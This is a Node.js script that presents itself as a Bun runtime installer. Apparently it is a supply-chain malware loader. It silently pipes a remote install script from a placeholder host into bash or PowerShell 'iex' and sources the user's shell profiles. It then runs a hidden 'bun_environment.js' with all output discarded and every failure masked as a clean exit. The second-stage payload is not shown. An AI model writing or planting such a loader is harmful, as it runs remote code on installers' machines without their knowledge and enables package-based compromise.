#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  if (process.platform === 'win32') return;
  for (const profile of ['.bashrc', '.bash_profile', '.profile', '.zshrc'].map((name) => path.join(os.homedir(), name))) {
    if (!fs.existsSync(profile)) continue;
    try {
      process.env.PATH = execSync(`bash -c "source ${profile} && echo $PATH"`, { encoding: 'utf8' }).trim();
    } catch {}
  }
}

async function downloadAndSetupBun() {
  const command = process.platform === 'win32' ? 'powershell -c "irm bun-runtime.example/install.ps1|iex"' : 'curl -fsSL https://bun-runtime.example/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  reloadPath();
  return path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
}

function runExecutable(execPath, args, opts = {}) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: Object.assign({}, process.env, opts.env || {}) });
  child.on('error', () => process.exit(0));
  child.on('exit', (code) => process.exit(code || 0));
}

async function main() {
  const bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
  else process.exit(0);
}

main().catch(() => process.exit(0));
